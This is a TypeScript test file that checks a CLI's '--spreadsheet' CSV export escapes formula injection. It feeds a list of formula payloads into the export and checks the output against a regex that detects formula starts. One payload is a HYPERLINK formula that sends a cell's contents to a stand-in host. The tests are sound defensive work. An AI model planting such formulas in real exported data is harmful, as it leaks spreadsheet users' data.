import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { spreadsheetLine } from '../../src/cli/export/spreadsheet.js';
import { writeByAnother } from '../file.js';
import { temporaryFolder } from '../temporary.js';
import { publishedFile, pylonDb } from './command.js';
import { csvRecords } from './csv-records.js';
import { exported, TABLES } from './exported.js';

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0\ufeff=1+1',
  '＝1+1',
  '"=1+1',
  'a;=1+1',
  'a,b\r\n=1+1;\t@x',
  '=HYPERLINK("http://x/?"&A1,"it\'s")',
];

/** Where a spreadsheet may begin a cell, with what it may skip there, and what would be a formula. */
const RUNS = /(?:^|[;\t\r\n])[\p{Zs}\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u;

const cellsOf = (line: string) => csvRecords(line)[0] ?? [];

describe('a record for a spreadsheet', () => {
  it('holds no formula, whatever text it is of and wherever a cell begins', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom(...' ;,\t\r\n"\'=+-@＝\u00a0\ufeffa1') }),
      fc.constantFrom(...FORMULAS),
    );
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (texts) => {
        const cells = cellsOf(spreadsheetLine(texts));
        expect(cells).toHaveLength(texts.length);
        for (const [i, cell] of cells.entries()) {
          expect(cell).not.toMatch(RUNS);
          // Nothing is lost: without the apostrophes it is the text.
          expect(cell.replaceAll("'", '')).toBe(texts[i]?.replaceAll("'", ''));
        }
      }),
    );
  });

  it.each([
    ['leading zeros', '007', "'007"],
    ['more digits than it keeps', '1234567890123456', "'1234567890123456"],
    ['a text like a number', '1e5', "'1e5"],
    ['a date', '2026-01-31', "'2026-01-31"],
    ['a time', '12:30', "'12:30"],
    ['an integer of 16 digits', 9_007_199_254_740_991n, "'9007199254740991"],
    ['a negative one', -9_007_199_254_740_991n, "'-9007199254740991"],
    ['a real of 17 digits', 0.30000000000000004, "'0.30000000000000004"],
    ['a BLOB whose hex is digits', Buffer.from([0, 0x12]), "'0012"],
    ['an integer of 15 digits', 999_999_999_999_999n, '999999999999999'],
    ['a negative number', -5n, '-5'],
    ['a real', 1.5, '1.5'],
    ['a huge real', 1e300, '1e+300'],
    ['a hash', 'ab12', 'ab12'],
    ['JSON', '[1,2]', '[1,2]'],
    ['a name', "it's me", "it's me"],
    ['nothing', null, ''],
    ['empty text', '', ''],
  ] as const)('keeps %s', (_, value, cell) => {
    expect(cellsOf(spreadsheetLine([value]))).toEqual([cell]);
  });
});

describe('--spreadsheet', () => {
  function fileOfStrangers(): string {
    const path = publishedFile(temporaryFolder());
    writeByAnother(
      path,
      'delete from earnings; delete from jobs; delete from tick_history; delete from agents',
    );
    for (const [i, text] of FORMULAS.entries()) {
      writeByAnother(
        path,
        `insert into jobs (id, kind, customer_pubkey, status, error_message, started_at, price_msats)
         values (?, 5, ?, 'failed', ?, 1, 9007199254740991)`,
        `00${i}`,
        text,
        text,
      );
      writeByAnother(
        path,
        "insert into agents (npub, name, lifecycle_state) values (?, ?, 'active')",
        text,
        text,
      );
    }
    writeByAnother(path, 'alter table jobs add column "=1+1" text');
    return path;
  }

  function expectSafe(csv: string): void {
    for (const record of csvRecords(csv)) for (const cell of record) expect(cell).not.toMatch(RUNS);
  }

  it('makes exports of tables and queries safe, their titles too, and leaves them exact without', async () => {
    const path = fileOfStrangers();
    const sql = 'select error_message as "@title", price_msats, id from jobs';
    for (const what of [['jobs'], ['agents'], ['--sql', sql]]) {
      expectSafe(await exported(path, ...what, '--spreadsheet'));
    }
    const { stdout } = await pylonDb(['query', sql, '--spreadsheet', '--db', path]);
    expectSafe(stdout);
    expect(stdout).toBe(await exported(path, '--sql', sql, '--spreadsheet'));
    const [title, first] = csvRecords(stdout);
    expect(title).toEqual(["'@title", 'price_msats', 'id']);
    expect(first).toEqual(["'=1+1", "'9007199254740991", "'000"]);
    const exact = csvRecords(await exported(path, '--sql', sql));
    expect(exact.slice(1).map(([text]) => text)).toEqual(FORMULAS);
  });

  it('holds for files too, one or all tables', async () => {
    const path = fileOfStrangers();
    const folder = join(temporaryFolder(), 'all');
    await exported(path, '--all', '--out', folder, '--spreadsheet');
    for (const table of TABLES) expectSafe(readFileSync(join(folder, `${table}.csv`), 'utf8'));
    const file = join(temporaryFolder(), 'jobs.csv');
    await exported(path, 'jobs', '--out', file, '--spreadsheet');
    expect(readFileSync(file, 'utf8')).toBe(readFileSync(join(folder, 'jobs.csv'), 'utf8'));
  });

  it.each([
    [['export', 'jobs', '--format', 'json']],
    [['export', 'jobs', '--json']],
    [['export', 'jobs', '--out', 'jobs.ndjson']],
    [['query', 'select 1', '--format', 'table']],
    [['query', 'select 1', '--json']],
  ])('is refused for another format: %j', async (args) => {
    const path = publishedFile(temporaryFolder());
    const outcome = await pylonDb([...args, '--spreadsheet', '--db', path], {}, temporaryFolder());
    expect(outcome).toMatchObject({ exitCode: 2, stdout: '' });
  });
});
